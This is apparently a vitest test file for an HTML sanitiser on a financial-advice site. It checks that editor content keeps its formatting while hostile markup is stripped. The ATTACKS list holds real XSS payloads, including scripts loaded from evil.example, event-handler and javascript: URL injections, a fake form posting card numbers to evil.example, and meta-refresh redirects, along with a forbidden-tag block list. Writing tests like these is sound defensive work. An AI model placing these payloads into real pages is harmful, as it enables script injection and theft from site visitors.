// @vitest-environment jsdom
import { expect, test } from 'vitest';
import { sanitise } from '#content/sanitise.ts';
import { textOf } from '#content/text-of.ts';

const ATTACKS = [
  '<script>window.hit=1</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=window.hit=1>',
  '<img src="/media/a.svg" onload="window.hit=1">',
  '<svg onload=window.hit=1><script>window.hit=1</script></svg>',
  '<math><mi xlink:href="javascript:window.hit=1">x</mi></math>',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href=" jav&#x09;ascript:window.hit=1">x</a>',
  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<form action="https://evil.example"><input name="pan" placeholder="Your PAN"><button>Pay</button></form>',
  '<p style="position:fixed;inset:0" id="main" name="x" class="skip-link">x</p>',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<iframe src="https://evil.example/youtube.com/embed/aqz-KE-bpKQ"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<video src=x onerror=window.hit=1></video>',
  '<details open ontoggle=window.hit=1>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  '<template><script>window.hit=1</script></template>',
  '<a href="https://ok.example" target=_blank onclick="window.hit=1" ping="https://evil.example">x</a>',
  '<!--><img src=x onerror=window.hit=1>-->',
  '<table background="https://evil.example/x"><td background="javascript:x">x',
  '<p>a<textarea><img src=x onerror=window.hit=1></textarea></p>',
  '<a href="#main">x</a><p name="main" class="y">x</p>',
];

const FORBIDDEN_TAGS =
  'script,style,form,input,button,textarea,select,iframe,object,embed,base,meta,link,svg,math,video,audio,template,noscript';

test.each(ATTACKS)('%s leaves nothing that acts', (attack) => {
  const page = `<main>${sanitise(`<p>before</p>${attack}<p>after</p>`)}</main>`;
  const document = new DOMParser().parseFromString(page, 'text/html');
  expect(
    document.querySelector(
      FORBIDDEN_TAGS.split(',')
        .map((tag) => `main ${tag}`)
        .join(),
    ),
  ).toBeNull();
  for (const element of document.querySelectorAll('main *')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^id$|^name$|^class$|^srcdoc$|^target$|^ping$|^background$/);
      if (['href', 'src'].includes(name)) expect(value).toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/)|#)/);
    }
  }
  expect(document.querySelector('main')?.textContent).toContain('before');
});

test('what editors write stays: structure, tables, scripts of India, entities', () => {
  const kept =
    '<h2>निवेश</h2>\n<p lang="hi">दस्तावेज़ <strong>ध्यान</strong> से पढ़ें 🙂 &amp; &lt;b&gt;</p>\n<ul><li>एक</li></ul>';
  expect(sanitise(kept)).toBe(kept);
  expect(sanitise('<table><tr><th scope="row" style="x">a</th><td colspan="2">b</td></tr></table>')).toBe(
    '<table><tr><th scope="row">a</th><td colspan="2">b</td></tr></table>',
  );
});

test('the page keeps its only h1', () => {
  expect(sanitise('<h1>Title</h1><h5>Small</h5>')).toBe('<h2>Title</h2><h4>Small</h4>');
});

test.each(['aside', 'header', 'footer', 'main', 'nav', 'center', 'address', 'fieldset', 'hgroup', 'dialog'])(
  'the words of <%s> stand apart from those around it',
  (name) => {
    const html = sanitise(`One<${name} class="x">Two</${name}>Three`);
    expect(html).toBe('One<div>Two</div>Three');
    expect(textOf(html)).toBe('One Two Three');
  },
);

test.each([
  '<strike>8.2%</strike>',
  '<span style="color:red; text-decoration: line-through;">8.2%</span>',
  '<span style="text-decoration-line:line-through">8.2%</span>',
])('a figure that is struck out does not look valid: %s', (html) => {
  expect(sanitise(`<p>${html} 7.9%</p>`)).toBe('<p><s>8.2%</s> 7.9%</p>');
});

test.each([
  [
    '<p><b style="font-weight:normal;" id="docs-internal-guid-1">A whole text</b></p>',
    '<p><span>A whole text</span></p>',
  ],
  ['<h1 lang="hi" dir="ltr">नमस्ते</h1>', '<h2 lang="hi" dir="ltr">नमस्ते</h2>'],
  ['<acronym title="Net asset value">NAV</acronym>', '<abbr title="Net asset value">NAV</abbr>'],
  ['<ol style="list-style-type: upper-roman"><li>x</li></ol>', '<ol type="I"><li>x</li></ol>'],
  ['<ol type="a"><li>x</li></ol>', '<ol type="a"><li>x</li></ol>'],
  ['<p>One</p><p>\u200b</p><p>Two</p>', '<p>One</p><p>Two</p>'],
])('what an editor says by a style or an old element: %s', (html, shown) => expect(sanitise(html)).toBe(shown));

test.each(['style="text-align: right;"', 'class="has-text-align-right" data-align="right"', 'align="right"'])(
  'figures stand at the right in a cell with %s',
  (right) => {
    const html = sanitise(`<table><tr><th ${right}>₹</th><td ${right}>1,00,000</td><td>Note</td></tr></table>`);
    expect(html).toBe('<table><tr><th align="right">₹</th><td align="right">1,00,000</td><td>Note</td></tr></table>');
  },
);

test('an underlined word is only a word', () => {
  expect(sanitise('<p><span style="text-decoration: underline">8.2%</span></p>')).toBe('<p><span>8.2%</span></p>');
});

test('pictures of this site are lazy and keep their size; others need a rule', () => {
  const clean = sanitise(
    '<img src="/media/sip.svg" alt="Steps" width="640" height="360"><img src="https://elsewhere.example/x.png">',
  );
  expect(clean).toContain('src="/media/sip.svg"');
  expect(clean).toContain('width="640" height="360" loading="lazy" decoding="async"');
  expect(clean).not.toContain('elsewhere');
});

test.each([
  '<p><a href="/media/a.png"><img src="/media/a.png" alt="A"></a></p>',
  '<p><em><strong><img src="/media/a.png" alt="A"></strong></em></p>',
  '<a href="/media/a.png"><div><img src="/media/a.png" alt="A"></div></a>',
])('a picture stays however deep it is wrapped: %s', (html) => {
  expect(sanitise(html)).toContain('<img src="/media/a.png" alt="A"');
});

test('links and paragraphs around nothing go, also after a picture', () => {
  const clean = sanitise(
    '<p><img src="/media/a.png"></p><p><a href="/x"></a>&nbsp;</p><p><a href="/y"><img src="javascript:x"></a></p>',
  );
  expect(clean.match(/<(?:p|a)\b/g)).toEqual(['<p']);
});

test.each([
  '<figure><div>\nhttps://www.youtube.com/watch?v=aqz-KE-bpKQ&amp;t=5\n</div></figure>',
  '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" onload="x"></iframe>',
  '<p><iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ?feature=oembed"></iframe></p>',
  '<p>https://youtu.be/aqz-KE-bpKQ</p>',
])('a film becomes a link to click: %s', (html) => {
  const clean = sanitise(html);
  expect(clean).toContain('<a class="video" href="https://www.youtube.com/watch?v=aqz-KE-bpKQ"');
  expect(clean).not.toContain('<iframe');
});

// What grew with the square of the length would not be done before the test's own time is over.
test('2 MB of one paragraph stay whole, and of two thousand open tags so many as may stand in each other', () => {
  const paragraph = 'a plan &amp; a date '.repeat(130_000).trim();
  expect(sanitise(`<p>${paragraph}</p>`) === `<p>${paragraph}</p>`).toBe(true);
  expect(sanitise('<div><b>'.repeat(1_000)).match(/<(?:div|b)>/g)).toHaveLength(60);
}, 30_000);

test.each([
  ['<iframe>', 200_000],
  ['<div><iframe src=x>', 100_000],
  ['<noscript><video>', 25_000],
  ['<picture><source srcset=x>', 80_000],
  ['<table><td>', 400_000],
  ['<math>', 600_000],
  ['<iframe srcdoc="', 100_000],
])(
  '%s a great many times is over soon',
  (open, times) => {
    expect(sanitise(`<p>before</p>${open.repeat(times)}`)).toContain('before');
  },
  30_000,
);

test.each([
  ['https://wa.me/919800000001?text=Hi I want a SIP', 'https://wa.me/919800000001?text=Hi%20I%20want%20a%20SIP'],
  ['mailto:desk@firm.example?subject=Need help', 'mailto:desk@firm.example?subject=Need%20help'],
  ['  https://x.example/Fact Sheet.pdf\n', 'https://x.example/Fact%20Sheet.pdf'],
  ['https://x.example/a\n  b.pdf', 'https://x.example/a%20%20b.pdf'],
])('the blanks in %j belong to it', (href, address) => {
  expect(sanitise(`<a href="${href}">x</a>`)).toContain(`href="${address}"`);
});
